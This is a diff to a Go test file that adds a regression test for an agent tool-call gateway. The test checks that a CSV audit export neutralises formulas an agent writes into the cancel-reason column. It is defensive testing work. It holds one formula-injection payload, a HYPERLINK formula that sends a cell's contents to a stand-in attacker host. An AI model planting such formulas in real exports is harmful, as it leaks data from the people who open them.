@@ -6,8 +6,10 @@ package tests
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"math"
+	"net/http"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -297,5 +299,42 @@ func TestOneAgentsFloodNeitherFillsTheIntakeNorHoldsUpAnotherAgent(t *testing.T)
 	t.Logf("evil published %d junk requests, %d refused over its share; it held at most %d in the intake", published.Load(), quotaHits.Load(), maxHeld.Load())
 	if held := maxHeld.Load(); held > share {
 		t.Fatalf("evil held %d requests in the intake, over its share of %d", held, share)
+	}
+}
+
+// SPEC §6: every value an agent wrote is neutralised in CSV exports. The
+// reason an agent gives when it cancels its own call was written to the
+// audit export's reason column as is, so a spreadsheet opening the export
+// ran it as a formula.
+func TestTheCSVExportNeverRunsAnAgentsFormula(t *testing.T) {
+	dev := startDev(t, t.TempDir(), 0, "")
+	bot := dev.Agent(t, "bot")
+	token := adminToken(t, dev)
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	id := mustSubmit(t, bot, airlock.Call{Tool: writeTool, Args: map[string]any{"path": "f.txt", "content": "x"}})
+	waitPending(t, dev, token, id)
+	formula := `=HYPERLINK("https://evil.example/?d="&A2,"details")`
+	if err := bot.Cancel(ctx, id, formula); err != nil {
+		t.Fatal(err)
+	}
+	var rows [][]string
+	testenv.Eventually(t, 20*time.Second, "the cancel in the export", func() bool {
+		req, _ := http.NewRequest(http.MethodGet, dev.HTTPURL+"/audit/export?format=csv&call="+id, nil)
+		req.Header.Set("Authorization", "Bearer "+token)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			return false
+		}
+		defer resp.Body.Close()
+		rows, err = csv.NewReader(resp.Body).ReadAll()
+		return err == nil && strings.Contains(fmt.Sprint(rows), "canceled")
+	})
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("the CSV export holds a cell a spreadsheet evaluates: %q", cell)
+			}
+		}
 	}
 }
